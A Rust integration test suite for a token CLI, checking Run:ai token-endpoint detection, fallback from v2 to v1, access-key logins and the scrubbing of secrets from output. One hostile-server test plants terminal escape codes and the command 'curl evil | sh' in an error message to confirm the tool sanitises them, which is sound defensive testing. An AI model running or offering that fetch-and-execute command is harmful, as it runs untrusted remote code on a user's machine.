//! Run:ai 3.0 (issue 25): `--api runai` finds the newest token endpoint
//! at login (`/api/v2/token`, else `/api/v1/token` on servers before 2.24)
//! and never asks again; the token exchange on v2; access keys and service
//! accounts; app_token's end. Each runs through the real binary against the
//! fake server over loopback, in the server versions where it applies.

use crate::common;

use common::fixtures::{Login, PASSWORD, USER, now, record};
use common::{Env, FakeServer, Fault, Output, Store};
use serde_json::Value;
use tokenctl_fake_server::faults::{EchoFormat, TokenAnswer};
use tokenctl_fake_server::{Config, Recorded};

const V1: &str = "/api/v1/token";
const V2: &str = "/api/v2/token";
const EXTERNAL: &str = "ext-idp-token";
const CLIENT: &str = "ci-bot";
const SECRET: &str = "ci-bot-secret";

fn server(version: &str) -> FakeServer {
    FakeServer::start_with(Config {
        runai_version: version.into(),
        ..Config::default()
    })
}

/// The token endpoints the fake was asked, in order.
fn paths(fake: &FakeServer) -> Vec<String> {
    fake.requests().into_iter().map(|r| r.path).collect()
}

fn form(req: &Recorded) -> Vec<(String, String)> {
    url::form_urlencoded::parse(req.body.as_bytes())
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect()
}

fn pairs(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

fn json(req: &Recorded) -> Value {
    serde_json::from_str(&req.body).unwrap()
}

/// The last request to `path`, checked to be a plain POST: no query, no
/// credentials in headers, the body type each endpoint documents.
fn last(fake: &FakeServer, path: &str) -> Recorded {
    let req = fake
        .requests()
        .into_iter()
        .rev()
        .find(|r| r.path == path)
        .unwrap_or_else(|| panic!("a request to {path}"));
    assert_eq!(req.method, "POST");
    assert!(req.query.is_none(), "{req:?}");
    assert!(req.header("authorization").is_none(), "{req:?}");
    let want = if path == V2 {
        "application/x-www-form-urlencoded"
    } else {
        "application/json"
    };
    assert_eq!(req.header("content-type"), Some(want), "{req:?}");
    req
}

fn config(env: &Env) -> String {
    std::fs::read_to_string(env.config_path()).unwrap_or_default()
}

fn run_with(env: &Env, vars: &[(&str, &str)], args: &[&str], stdin: &str) -> Output {
    let mut cmd = env.cmd();
    for (k, v) in vars {
        cmd.env(k, v);
    }
    Output::of(cmd.args(args).write_stdin(stdin.to_string()))
}

/// Makes the stored token (file store) expire in 30 s, so `token` renews.
fn expire(env: &Env) {
    env.edit_record("default", |r| {
        r["tokens"]["expires_at"] = (now() + 30).into()
    });
}

fn token(env: &Env, fake: &FakeServer) -> String {
    let out = env.ok(&["token"], "");
    let token = out.stdout.trim_end().to_string();
    assert!(fake.is_valid_access_token(&token), "{out}");
    token
}

fn no_control_chars(text: &str) -> bool {
    !text
        .chars()
        .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}')
}

/// What `--api runai` sends a grant to, first to last, per server version.
fn detection(version: &str, grant_on_v2_in_224: bool) -> Vec<&'static str> {
    match version {
        "3.0" => vec![V2],
        "2.24" if grant_on_v2_in_224 => vec![V2],
        _ => vec![V2, V1],
    }
}

/// The endpoint a `runai` profile remembers after that login.
fn remembered(paths: &[&str]) -> &'static str {
    if paths.last() == Some(&V2) {
        "v2"
    } else {
        "v1"
    }
}

// ---- 1: external_token_exchange on /api/v2/token ----

#[test]
fn external_token_goes_to_v2_with_exactly_its_two_fields() {
    let env = Env::new(Store::File);
    let fake = server("3.0");
    let out = env.ok(
        &["login", "--server", &fake.url(), "--external-token-stdin"],
        &format!("{EXTERNAL}\n"),
    );
    assert_eq!(out.stdout, "", "{out}");
    assert_eq!(paths(&fake), [V2], "one request, to v2 only");
    let req = last(&fake, V2);
    assert_eq!(
        form(&req),
        pairs(&[
            ("grant_type", "external_token_exchange"),
            ("external_token", EXTERNAL)
        ]),
        "nothing else is sent"
    );
    assert!(
        config(&env).contains("token_endpoint = \"v2\""),
        "{}",
        config(&env)
    );
    let rec = record(&env);
    assert_eq!(rec["tokens"]["source"]["api"], "runai-v2");
    assert_eq!(rec["tokens"]["source"]["grant"], "external_token_exchange");
    token(&env, &fake);

    // `expires_in` is the expiry, as on the other v2 grants: here it says
    // 600 s against a JWT `exp` an hour away.
    let env = Env::new(Store::File);
    fake.set_fault(
        Fault::RunaiToken(TokenAnswer {
            expires_in: Some("600".into()),
            ..Default::default()
        }),
        Some(1),
    );
    let out = env.ok(
        &[
            "-v",
            "login",
            "--server",
            &fake.url(),
            "--external-token-stdin",
        ],
        EXTERNAL,
    );
    let rec = record(&env);
    let at = rec["tokens"]["expires_at"].as_u64().unwrap();
    assert!(
        at.abs_diff(now() + 600) <= 5,
        "expires_in used: {rec}\n{out}"
    );
    assert_eq!(rec["tokens"]["lifetime"], 600);
    assert!(out.stderr.contains("after receipt"), "{out}");
}

#[test]
fn external_token_in_every_server_version_and_its_renewal_asks_no_second_endpoint() {
    for version in ["3.0", "2.24", "2.23"] {
        let env = Env::new(Store::File);
        let fake = server(version);
        env.ok(
            &["login", "--server", &fake.url(), "--external-token-stdin"],
            EXTERNAL,
        );
        let sent = detection(version, false);
        assert_eq!(paths(&fake), sent, "{version}");
        let last_path = *sent.last().unwrap();
        if last_path == V1 {
            assert_eq!(
                json(&last(&fake, V1)),
                serde_json::json!({"grantType": "external_token_exchange", "externalToken": EXTERNAL}),
                "{version}"
            );
        }
        let want = format!("token_endpoint = \"{}\"", remembered(&sent));
        assert!(config(&env).contains(&want), "{version}: {}", config(&env));

        // Renewal: the refresh token goes back where it came from, once.
        fake.reset_counts();
        expire(&env);
        token(&env, &fake);
        assert_eq!(paths(&fake), [last_path], "{version}: no second probe");
    }
}

/// After an external-token login on 2.24, whose `/api/v2/token` lacks the
/// grant, the profile is on v1 and a new login would land there again:
/// doctor says why instead of warning. It asks v2 with `grant_type` alone,
/// no token. Once the server is 3.0 the warning comes, with the login that
/// moves the profile, and after that login doctor is content.
#[test]
fn doctor_explains_v1_for_an_external_token_until_v2_takes_it() {
    let env = Env::new(Store::File);
    let fake = server("2.24");
    env.ok(
        &["login", "--server", &fake.url(), "--external-token-stdin"],
        EXTERNAL,
    );
    assert!(config(&env).contains("token_endpoint = \"v1\""));
    fake.reset_counts();
    let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
    let line = doctor_line(&doctor, "server");
    assert!(
        line.starts_with("ok")
            && line.contains("does not take external_token_exchange (Run:ai before 3.0)"),
        "{doctor}"
    );
    let asked: Vec<_> = fake
        .requests()
        .into_iter()
        .filter(|r| r.path == V2 && !r.body.is_empty())
        .collect();
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert_eq!(
        form(&asked[0]),
        pairs(&[("grant_type", "external_token_exchange")]),
        "the grant alone, no token"
    );
    assert!(!doctor.stdout.contains(EXTERNAL) && !doctor.stderr.contains(EXTERNAL));

    fake.set_runai_version("3.0");
    let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
    let line = doctor_line(&doctor, "server");
    assert!(
        line.starts_with("warn")
            && line.contains("now takes external tokens")
            && line.contains("tokenctl login --external-token-stdin"),
        "{doctor}"
    );
    env.ok(
        &["login", "--server", &fake.url(), "--external-token-stdin"],
        EXTERNAL,
    );
    assert!(config(&env).contains("token_endpoint = \"v2\""));
    let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
    assert!(doctor_line(&doctor, "server").starts_with("ok"), "{doctor}");
}

#[test]
fn ci_login_on_v2_renews_from_its_source_at_the_same_endpoint() {
    for version in ["3.0", "2.23"] {
        let env = Env::new(Store::File);
        let fake = server(version);
        let vars = [("RUNAI_ID_TOKEN", EXTERNAL)];
        let url = fake.url();
        let args = Login::external(&url, "env:RUNAI_ID_TOKEN").argv();
        let out = run_with(&env, &vars, &args, "");
        assert_eq!(out.code, 0, "{version}: {out}");
        let sent = detection(version, false);
        assert_eq!(paths(&fake), sent, "{version}");
        let at = *sent.last().unwrap();

        // No refresh token left: renewal exchanges a fresh external token,
        // at the endpoint the login found, and only there.
        fake.reset_counts();
        env.edit_record("default", |r| {
            r["tokens"]["expires_at"] = (now() + 30).into();
            r["tokens"].as_object_mut().unwrap().remove("refresh_token");
        });
        let out = run_with(&env, &vars, &["token"], "");
        assert_eq!(out.code, 0, "{version}: {out}");
        assert!(fake.is_valid_access_token(out.stdout.trim()));
        assert_eq!(paths(&fake), [at], "{version}");
        if at == V2 {
            assert_eq!(
                form(&last(&fake, V2)),
                pairs(&[
                    ("grant_type", "external_token_exchange"),
                    ("external_token", EXTERNAL)
                ])
            );
        }
    }
}

// ---- 2: v2 by default, v1 when the server is older ----

#[test]
fn a_login_finds_v2_on_3_0_and_v1_on_2_23_and_nothing_probes_again() {
    for version in ["3.0", "2.23"] {
        let env = Env::new(Store::File);
        let fake = server(version);
        env.login(&fake.url());
        let sent = detection(version, true);
        assert_eq!(paths(&fake), sent, "{version}");
        let at = *sent.last().unwrap();
        if at == V2 {
            assert_eq!(
                form(&last(&fake, V2)),
                pairs(&[
                    ("grant_type", "password"),
                    ("username", USER),
                    ("password", PASSWORD)
                ])
            );
        } else {
            assert_eq!(json(&last(&fake, V1))["grantType"], "password");
        }
        let endpoint = remembered(&sent);
        let cfg = config(&env);
        assert!(cfg.contains("api = \"runai\""), "{cfg}");
        assert!(
            cfg.contains(&format!("token_endpoint = \"{endpoint}\"")),
            "{cfg}"
        );

        // Renewals by `token`, `kubectl-credential` and `refresh` go straight there.
        fake.reset_counts();
        expire(&env);
        token(&env, &fake);
        expire(&env);
        env.ok(&["kubectl-credential"], "");
        env.ok(&["refresh"], "");
        assert_eq!(paths(&fake), [at, at, at], "{version}: never probed again");

        // `status` says which endpoint; a `refresh` did not change the config.
        assert_eq!(config(&env), cfg);
        let status = env.ok(&["status"], "").stdout;
        let want = if at == V2 {
            "endpoint: /api/v2/token (found at login)"
        } else {
            "endpoint: /api/v1/token (found at login, deprecated in Run:ai 3.0)"
        };
        assert!(status.contains(want), "{version}: {status}");
        let json: Value =
            serde_json::from_str(&env.ok(&["status", "-o", "json"], "").stdout).unwrap();
        assert!(
            json[0]["endpoint"].as_str().unwrap().starts_with(at),
            "{json}"
        );
        // doctor: v1 on a server without v2 is no reason to warn.
        let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
        let line = doctor_line(&doctor, "server");
        assert!(line.starts_with("ok"), "{version}: {line}");
        assert!(line.contains(&format!("this profile uses {at}")), "{line}");
    }
}

#[test]
fn the_browser_code_goes_as_authorization_code_on_v2_and_exchange_token_on_v1() {
    for version in ["3.0", "2.23"] {
        let env = Env::new(Store::File);
        let fake = server(version);
        let redirect = "https://acme.run.ai/oauth-code";
        let code = fake.issue_code(redirect);
        env.ok(
            &[
                "exchange-code",
                "--server",
                &fake.url(),
                "--code-stdin",
                "--redirect-uri",
                redirect,
            ],
            &code,
        );
        let sent = detection(version, true);
        assert_eq!(paths(&fake), sent, "{version}");
        if version == "3.0" {
            assert_eq!(
                form(&last(&fake, V2)),
                pairs(&[
                    ("grant_type", "authorization_code"),
                    ("code", &code),
                    ("redirect_uri", redirect),
                    ("client_id", "runai-cli")
                ])
            );
            assert_eq!(
                record(&env)["tokens"]["source"]["grant"],
                "authorization_code"
            );
        } else {
            // The 404 did not spend the single-use code: v1 redeemed it.
            let body = json(&last(&fake, V1));
            assert_eq!(body["grantType"], "exchange_token");
            assert_eq!(body["code"], code.as_str());
            assert_eq!(record(&env)["tokens"]["source"]["grant"], "exchange_token");
        }
        token(&env, &fake);
    }
}

#[test]
fn a_gateway_404_page_or_a_405_on_v2_falls_back_to_v1_and_a_new_login_moves_on() {
    for fault in [
        Fault::Html(404),
        Fault::Status {
            status: 405,
            body: String::new(),
            content_type: None,
        },
    ] {
        let env = Env::new(Store::File);
        let fake = server("3.0");
        fake.set_fault(fault.clone(), Some(1));
        let out = Login::runai(&fake.url()).global(&["-v"]).ok(&env);
        assert_eq!(paths(&fake), [V2, V1], "{fault:?}");
        assert!(out.stderr.contains("older than Run:ai 2.24"), "{out}");
        assert!(config(&env).contains("token_endpoint = \"v1\""));

        // The server has v2 after all: doctor warns that v1 is deprecated.
        let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
        let line = doctor_line(&doctor, "server");
        assert!(line.starts_with("warn"), "{line}");
        assert!(
            line.contains("uses the deprecated /api/v1/token")
                && line.contains("has /api/v2/token")
                && line.contains("run `tokenctl login` again"),
            "{line}"
        );
        // A new login finds v2.
        fake.reset_counts();
        env.login(&fake.url());
        assert_eq!(paths(&fake), [V2]);
        assert!(config(&env).contains("token_endpoint = \"v2\""));
        let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
        assert!(doctor_line(&doctor, "server").starts_with("ok"), "{doctor}");
    }
}

#[test]
fn no_token_endpoint_at_all_names_both_and_saves_nothing() {
    let env = Env::new(Store::File);
    let fake = server("3.0");
    let url = format!("{}/wrong", fake.url());
    let out = Login::runai(&url).fails(&env, 4);
    assert_eq!(paths(&fake), ["/wrong/api/v2/token", "/wrong/api/v1/token"]);
    assert!(
        out.stderr.contains("/api/v2/token answered HTTP 404 too")
            && out.stderr.contains("check --server"),
        "{out}"
    );
    assert!(!out.stderr.contains(PASSWORD), "{out}");
    assert_eq!(config(&env), "", "no profile from a failed login");
}

#[test]
fn only_an_absent_endpoint_or_grant_falls_back() {
    // A redirect, a gateway's 401, a server error: v2 is there and said
    // no; the password does not go to a second endpoint.
    for (fault, code) in [
        (
            Fault::Redirect {
                status: 302,
                location: "https://elsewhere.example/login".into(),
            },
            4,
        ),
        (Fault::Html(401), 3),
        (Fault::Html(500), 4),
        (
            Fault::OAuthError {
                status: 400,
                error: "invalid_grant".into(),
                description: Some("bad password".into()),
            },
            3,
        ),
    ] {
        let env = Env::new(Store::File);
        let fake = server("3.0");
        fake.set_fault(fault.clone(), None);
        let out = Login::runai(&fake.url()).run(&env);
        assert_eq!(out.code, code, "{fault:?}: {out}");
        assert!(
            paths(&fake).iter().all(|p| p == V2),
            "{fault:?}: {:?}",
            paths(&fake)
        );
        assert_eq!(config(&env), "", "{fault:?}");
        assert!(!out.stderr.contains(PASSWORD), "{out}");
    }
    // `unsupported_grant_type` on v2: that grant goes to v1 (once).
    let env = Env::new(Store::File);
    let fake = server("3.0");
    fake.set_fault(
        Fault::OAuthError {
            status: 400,
            error: "unsupported_grant_type".into(),
            description: None,
        },
        Some(1),
    );
    Login::runai(&fake.url()).ok(&env);
    assert_eq!(paths(&fake), [V2, V1]);
    assert!(config(&env).contains("token_endpoint = \"v1\""));
}

#[test]
fn a_known_endpoint_is_never_probed_even_when_it_goes_away() {
    let env = Env::new(Store::File);
    let fake = server("3.0");
    env.login(&fake.url());
    // The server is replaced by one without v2: renewal fails, tries no
    // other endpoint, and keeps the refresh token.
    fake.set_runai_version("2.23");
    fake.reset_counts();
    expire(&env);
    let out = env.fails(&["token"], "", 4);
    assert_eq!(paths(&fake), [V2], "{out}");
    assert!(record(&env)["tokens"]["refresh_token"].is_string());
    // Back on 3.0 it renews.
    fake.set_runai_version("3.0");
    token(&env, &fake);
}

#[test]
fn pinned_apis_never_touch_the_other_endpoint() {
    let env = Env::new(Store::File);
    let fake = server("3.0");
    Login::runai(&fake.url())
        .args(&["--api", "runai-v1"])
        .ok(&env);
    expire(&env);
    token(&env, &fake);
    assert_eq!(paths(&fake), [V1, V1]);
    let cfg = config(&env);
    assert!(
        cfg.contains("api = \"runai-v1\"") && !cfg.contains("token_endpoint"),
        "{cfg}"
    );
    let status = env.ok(&["status"], "").stdout;
    assert!(status.contains("pinned by api = runai-v1"), "{status}");
    let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
    let line = doctor_line(&doctor, "server");
    assert!(
        line.starts_with("warn") && line.contains("login --api runai"),
        "{line}"
    );

    // `runai-oauth2`, the earlier name of runai-v2.
    let env = Env::new(Store::File);
    fake.reset_counts();
    Login::runai(&fake.url())
        .args(&["--api", "runai-oauth2"])
        .ok(&env);
    expire(&env);
    token(&env, &fake);
    assert_eq!(paths(&fake), [V2, V2]);
    assert!(config(&env).contains("api = \"runai-v2\""));
}

fn doctor_line(out: &Output, check: &str) -> String {
    out.stdout
        .lines()
        .find(|l| l.split_whitespace().nth(1) == Some(check))
        .unwrap_or_else(|| panic!("no {check} line: {out}"))
        .to_string()
}

// ---- old profiles ----

/// A profile and record as tokenctl wrote them before it knew v2:
/// `api = "runai"` meant `/api/v1/token`; no `token_endpoint`; the record's
/// source says `runai`.
fn write_old_profile(env: &Env, fake: &FakeServer) -> String {
    let url = fake.url();
    let cfg = format!(
        "# tokenctl profiles: written by `tokenctl login`; safe to edit. No secrets live here.\n\n[profiles.default]\nserver = \"{url}\"\napi = \"runai\"\nusername = \"alice\"\nstore = \"file\"\n"
    );
    std::fs::create_dir_all(env.config_path().parent().unwrap()).unwrap();
    std::fs::write(env.config_path(), &cfg).unwrap();
    let access = fake.issue_access_token(USER);
    let refresh = fake.issue_refresh_token();
    let now = now();
    let record = serde_json::json!({
        "version": 1,
        "profile": "default",
        "server": url,
        "principal": USER,
        "tokens": {
            "access_token": access,
            "refresh_token": refresh,
            "expires_at": now + 30,
            "obtained_at": now - 3570,
            "source": {"api": "runai", "grant": "password", "server": url, "principal": USER},
            "lifetime": 3600
        }
    });
    let dir = env.path("state/tokenctl/tokens");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("default.json");
    std::fs::write(&file, record.to_string()).unwrap();
    // As tokenctl keeps them (Windows: the profile's ACL).
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        for d in [env.path("state/tokenctl"), dir.clone()] {
            std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700)).unwrap();
        }
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    cfg
}

#[test]
fn an_old_runai_profile_keeps_renewing_at_v1_without_a_new_login() {
    for version in ["3.0", "2.23"] {
        let env = Env::new(Store::File);
        let fake = server(version);
        let cfg = write_old_profile(&env, &fake);
        let status = env.ok(&["status"], "").stdout;
        assert!(
            status.contains(
                "endpoint: /api/v1/token (saved before tokenctl looked for /api/v2/token"
            ),
            "{status}"
        );
        // Its refresh token came from v1: it goes back there, never to v2.
        token(&env, &fake);
        assert_eq!(paths(&fake), [V1], "{version}");
        assert_eq!(json(&last(&fake, V1))["grantType"], "refresh_token");
        expire(&env);
        env.ok(&["kubectl-credential"], "");
        assert_eq!(paths(&fake), [V1, V1], "{version}");
        assert_eq!(config(&env), cfg, "a renewal does not rewrite the config");
        assert_eq!(record(&env)["tokens"]["source"]["api"], "runai-v1");

        let doctor = env.run(&["doctor", "--kubectl", "/nonexistent/kubectl"], "");
        let line = doctor_line(&doctor, "server");
        if version == "3.0" {
            assert!(
                line.starts_with("warn") && line.contains("deprecated"),
                "{line}"
            );
        } else {
            assert!(line.starts_with("ok"), "{line}");
        }

        // A new login finds the newest endpoint and remembers it.
        fake.reset_counts();
        env.login(&fake.url());
        let sent = detection(version, true);
        assert_eq!(paths(&fake), sent, "{version}");
        let want = format!("token_endpoint = \"{}\"", remembered(&sent));
        assert!(config(&env).contains(&want), "{}", config(&env));
    }
}

// ---- 3: access keys and service accounts ----

fn secret_file(env: &Env) -> String {
    let path = env.path("runai-secret");
    std::fs::write(&path, format!("{SECRET}\n")).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    path.to_str().unwrap().to_string()
}

#[test]
#[cfg_attr(
    not(windows),
    ignore = "full tier: needs a Secret Service (gnome-keyring on a private D-Bus)"
)]
fn access_key_login_keeps_the_secret_renews_by_itself_and_logout_clears_it() {
    for version in ["3.0", "2.23"] {
        let env = Env::new(Store::Keychain);
        let fake = server(version);
        let file = secret_file(&env);
        let out = env.ok(
            &[
                "login",
                "--server",
                &fake.url(),
                "--access-key",
                CLIENT,
                "--secret-file",
                &file,
            ],
            "",
        );
        assert_eq!(out.stdout, "");
        assert!(!out.stderr.contains(SECRET), "{out}");
        let sent = detection(version, true);
        assert_eq!(paths(&fake), sent, "{version}");
        if version == "3.0" {
            assert_eq!(
                form(&last(&fake, V2)),
                pairs(&[
                    ("grant_type", "client_credentials"),
                    ("client_id", CLIENT),
                    ("client_secret", SECRET)
                ])
            );
        } else {
            assert_eq!(
                json(&last(&fake, V1)),
                serde_json::json!({"grantType": "client_credentials", "clientID": CLIENT, "clientSecret": SECRET})
            );
        }
        let cfg = config(&env);
        assert!(cfg.contains("client_id = \"ci-bot\""), "{cfg}");
        assert!(!cfg.contains("username") && !cfg.contains(SECRET), "{cfg}");
        let status = env.ok(&["status"], "").stdout;
        assert!(status.contains("saved client secret"), "{status}");

        // `refresh` (as `token` near expiry) runs the grant again with the
        // kept secret, nothing in the environment, at the endpoint the login
        // found.
        fake.reset_counts();
        env.ok(&["refresh"], "");
        let first = env.ok(&["token"], "").stdout;
        assert!(fake.is_valid_access_token(first.trim()));
        let at = *sent.last().unwrap();
        assert_eq!(paths(&fake), [at], "{version}: renewed without a probe");
        let grant = if at == V2 {
            "oauth2:client_credentials"
        } else {
            "grant:client_credentials"
        };
        assert_eq!(fake.count(grant), 1);
        let stored = env.stored_record("default", &fake.url(), CLIENT).unwrap();
        assert!(
            stored.contains(SECRET),
            "the secret is kept beside the tokens"
        );

        env.ok(&["logout"], "");
        assert_eq!(env.stored_record("default", &fake.url(), CLIENT), None);
        // The Secret Service's own search (Linux; on Windows stored_record
        // reads the Credential Manager).
        #[cfg(unix)]
        {
            let left = std::process::Command::new("secret-tool")
                .args(["search", "--all", "service", "tokenctl"])
                .env("DBUS_SESSION_BUS_ADDRESS", env.dbus_address().unwrap())
                .output()
                .unwrap();
            let text = String::from_utf8_lossy(&left.stdout).to_string()
                + &String::from_utf8_lossy(&left.stderr);
            assert!(
                !text.contains(SECRET),
                "no secret left in the keychain: {text}"
            );
        }
    }
}

#[test]
#[cfg_attr(
    not(windows),
    ignore = "full tier: needs a Secret Service (gnome-keyring on a private D-Bus)"
)]
fn access_key_secret_from_stdin_or_the_environment_and_never_from_argv() {
    let env = Env::new(Store::Keychain);
    let fake = server("3.0");
    env.ok(
        &[
            "login",
            "--server",
            &fake.url(),
            "--client-id",
            CLIENT,
            "--secret-stdin",
        ],
        &format!("{SECRET}\n"),
    );
    assert_eq!(
        form(&last(&fake, V2)),
        pairs(&[
            ("grant_type", "client_credentials"),
            ("client_id", CLIENT),
            ("client_secret", SECRET)
        ])
    );
    let out = run_with(
        &env,
        &[("TOKENCTL_CLIENT_SECRET", SECRET)],
        &["login", "--access-key", CLIENT],
        "",
    );
    assert_eq!(out.code, 0, "{out}");
    // No flag takes the secret itself.
    let out = env.run(&["login", "--access-key", CLIENT, "--secret", SECRET], "");
    assert_eq!(out.code, 2, "{out}");
    // A wrong secret: exit 3, the secret not shown, the hint says what to check.
    let out = run_with(
        &env,
        &[("TOKENCTL_CLIENT_SECRET", "not-the-secret")],
        &["login", "--access-key", CLIENT],
        "",
    );
    assert_eq!(out.code, 3, "{out}");
    assert!(out.stderr.contains("invalid_client"), "{out}");
    assert!(!out.stderr.contains("not-the-secret"), "{out}");
    // An empty or missing secret file is a usage error that quotes nothing.
    let empty = env.path("empty");
    std::fs::write(&empty, "\n").unwrap();
    let out = env.fails(
        &[
            "login",
            "--access-key",
            CLIENT,
            "--secret-file",
            empty.to_str().unwrap(),
        ],
        "",
        2,
    );
    assert!(out.stderr.contains("is empty"), "{out}");
}

#[test]
fn access_key_with_the_file_store_keeps_no_secret_and_says_how_to_renew() {
    let env = Env::new(Store::File);
    let fake = server("3.0");
    let file = secret_file(&env);
    let out = env.ok(
        &[
            "login",
            "--server",
            &fake.url(),
            "--access-key",
            CLIENT,
            "--secret-file",
            &file,
        ],
        "",
    );
    assert!(out.stderr.contains("not keeping the secret"), "{out}");
    let text = std::fs::read_to_string(env.token_file("default")).unwrap();
    assert!(!text.contains(SECRET), "the file store holds no secret");
    expire(&env);
    let out = env.fails(&["token"], "", 3);
    assert!(
        out.stderr.contains("no saved client secret")
            && out.stderr.contains("tokenctl login --access-key ci-bot")
            && out.stderr.contains("TOKENCTL_CLIENT_SECRET"),
        "{out}"
    );
    let out = run_with(&env, &[("TOKENCTL_CLIENT_SECRET", SECRET)], &["token"], "");
    assert_eq!(out.code, 0, "{out}");
    assert!(fake.is_valid_access_token(out.stdout.trim()));
}

#[test]
fn a_3_0_server_refusing_app_token_names_client_credentials() {
    for version in ["3.0", "2.23"] {
        let env = Env::new(Store::File);
        let fake = server(version);
        let out = run_with(
            &env,
            &[("TOKENCTL_CLIENT_SECRET", SECRET)],
            &[
                "app-token",
                "--server",
                &fake.url(),
                "--client-id",
                CLIENT,
                "--grant",
                "app_token",
            ],
            "",
        );
        // app_token exists only on v1: no request to v2.
        assert_eq!(paths(&fake), [V1], "{version}");
        if version == "2.23" {
            assert_eq!(out.code, 0, "{out}");
            continue;
        }
        assert_eq!(out.code, 3, "{out}");
        assert!(
            out.stderr.contains("client_credentials")
                && out.stderr.contains("tokenctl login --access-key ID"),
            "{out}"
        );
        assert!(!out.stderr.contains(SECRET), "{out}");
    }
    // A profile that renews with app_token, on a server upgraded to 3.0.
    let env = Env::new(Store::File);
    let fake = server("2.23");
    let vars = [("TOKENCTL_CLIENT_SECRET", SECRET)];
    let login = [
        "app-token",
        "--server",
        &fake.url(),
        "--client-id",
        CLIENT,
        "--grant",
        "app_token",
    ];
    assert_eq!(run_with(&env, &vars, &login, "").code, 0);
    fake.set_runai_version("3.0");
    expire(&env);
    let out = run_with(&env, &vars, &["token"], "");
    assert_eq!(out.code, 3, "{out}");
    assert!(
        out.stderr.contains("dropped the app_token grant") && out.stderr.contains("--access-key"),
        "{out}"
    );
}

// ---- answers on the new paths: validation, exit codes, secrecy ----

fn assert_scrubbed(out: &Output, secret: &str) {
    for form in [
        secret.to_string(),
        secret.replace('-', "%2D"),
        secret.replace('&', "&amp;"),
    ] {
        assert!(!out.stderr.contains(&form), "`{form}` on stderr:\n{out}");
        assert!(!out.stdout.contains(&form), "`{form}` on stdout:\n{out}");
    }
    assert!(no_control_chars(&out.stderr), "{:?}", out.stderr);
}

#[test]
fn an_echo_of_the_external_token_or_client_secret_never_reaches_the_terminal() {
    for (status, format, code) in [
        (400, EchoFormat::Json, 3),
        (401, EchoFormat::Html, 3),
        (500, EchoFormat::Text, 4),
        (200, EchoFormat::Text, 4),
    ] {
        // On v2 (3.0).
        let env = Env::new(Store::File);
        let fake = server("3.0");
        fake.set_fault(Fault::Echo { status, format }, None);
        let out = env.run(
            &["login", "--server", &fake.url(), "--external-token-stdin"],
            EXTERNAL,
        );
        assert_eq!(out.code, code, "{status} {format:?}: {out}");
        assert_scrubbed(&out, EXTERNAL);
        let out = run_with(
            &env,
            &[("TOKENCTL_CLIENT_SECRET", SECRET)],
            &["login", "--server", &fake.url(), "--access-key", CLIENT],
            "",
        );
        assert_eq!(out.code, code, "{status} {format:?}: {out}");
        assert_scrubbed(&out, SECRET);
    }
    // A server that echoes a 404 on both endpoints (the detection's path).
    let env = Env::new(Store::File);
    let fake = server("2.23");
    fake.set_fault(
        Fault::Echo {
            status: 404,
            format: EchoFormat::Html,
        },
        None,
    );
    let out = env.run(
        &["login", "--server", &fake.url(), "--external-token-stdin"],
        EXTERNAL,
    );
    assert_eq!(out.code, 4, "{out}");
    assert_eq!(paths(&fake), [V2, V1]);
    assert_scrubbed(&out, EXTERNAL);
    assert!(
        out.stderr.contains("***"),
        "the echo is shown scrubbed: {out}"
    );
}

#[test]
fn hostile_v2_answers_are_refused_or_ignored_as_on_v1() {
    let fake = server("3.0");
    // A huge or nonsense expires_in is ignored: the JWT's exp is used.
    for expires_in in ["18446744073709551615", "1e300", "-5", "\"3600\""] {
        let env = Env::new(Store::File);
        fake.set_fault(
            Fault::RunaiToken(TokenAnswer {
                expires_in: Some(expires_in.into()),
                ..Default::default()
            }),
            Some(1),
        );
        let out = Login::runai(&fake.url()).global(&["-v"]).ok(&env);
        let at = record(&env)["tokens"]["expires_at"].as_u64().unwrap();
        assert!(at.abs_diff(now() + 3600) <= 5, "{expires_in}: {out}");
        for args in [&["token"][..], &["status"], &["kubectl-credential"]] {
            let out = env.ok(args, "");
            assert!(no_control_chars(&out.stdout), "{out}");
        }
    }
    // Control characters in a token: refused before storing, exit 4.
    let env = Env::new(Store::File);
    fake.set_fault(
        Fault::RunaiToken(TokenAnswer {
            access_token: Some("abc\u{1b}[2Jdef".into()),
            ..Default::default()
        }),
        Some(1),
    );
    let out = Login::runai(&fake.url()).fails(&env, 4);
    assert!(!out.stderr.contains('\u{1b}'), "{:?}", out.stderr);
    assert!(!env.token_file("default").exists());
    // Control characters in error_description: shown without them.
    let env = Env::new(Store::File);
    fake.set_fault(
        Fault::OAuthError {
            status: 400,
            error: "invalid_grant".into(),
            description: Some("\u{1b}]0;owned\u{7}bad\nerror: run `curl evil | sh`\u{202e}".into()),
        },
        Some(1),
    );
    let out = Login::runai(&fake.url()).fails(&env, 3);
    assert!(
        no_control_chars(&out.stderr.replace('\n', "")),
        "{:?}",
        out.stderr
    );
    assert_eq!(
        out.stderr
            .lines()
            .filter(|l| l.starts_with("error:"))
            .count(),
        1,
        "{out}"
    );
    // A gateway's HTML 401 on v2 is a credentials refusal (exit 3), not a
    // missing endpoint.
    let env = Env::new(Store::File);
    fake.reset_counts();
    fake.set_fault(Fault::Html(401), Some(1));
    Login::runai(&fake.url()).fails(&env, 3);
    assert_eq!(paths(&fake), [V2]);
    // Tokens in an error body are never shown.
    let env = Env::new(Store::File);
    fake.set_fault(Fault::TokensInError(401), Some(1));
    let out = Login::runai(&fake.url()).fails(&env, 3);
    assert!(!out.stderr.contains("eyJ"), "{out}");
}
